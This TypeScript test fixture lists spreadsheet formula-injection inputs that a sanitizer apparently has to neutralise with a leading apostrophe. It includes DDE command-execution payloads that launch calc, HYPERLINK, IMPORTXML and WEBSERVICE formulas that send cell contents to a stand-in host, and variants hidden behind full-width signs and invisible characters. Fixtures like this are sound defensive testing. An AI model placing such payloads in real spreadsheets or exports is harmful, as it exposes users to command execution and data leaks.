/** Cells that have run, or could run, in a spreadsheet: each must come out as text with ' before it. Hosts and commands are invented or harmless. */
const STARTS = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '﹦', '﹢', '﹣', '﹫'];
const FORMULAS = [
  '1+1',
  "SUM(1+1)*cmd|' /C calc'!A0",
  'HYPERLINK("https://example.org/?leak="&A1&A2,"Error: click me")',
  'IMPORTXML(CONCAT("https://example.org/",A1),"//a")',
  'WEBSERVICE("https://example.org/")',
  'DDE("cmd";"/C calc";"x")',
];
const UNSEEN = ['\t', '\r', '\n', '\0', ' ', '\u00a0', '\ufeff', '\u200b', '\u202e', '\u2066', '\u00ad', '\v', "'", "''", "' "];

export const HOSTILE_CELLS: readonly string[] = [
  ...STARTS.flatMap((start) => FORMULAS.map((formula) => start + formula)),
  ...UNSEEN.map((unseen) => `${unseen}=1+1`),
  ...STARTS,
  '\tplain',
  '\rplain',
  '\nplain',
  '\0plain',
  '\r\n=1',
  '--',
  '+00 000 000',
  '-5',
  '@harbour_board_00',
  '@SUM(1)',
  '=\ud83d',
  '="a";"b"',
  '=1\r\n"x","y"',
  '+"\u0661"',
];
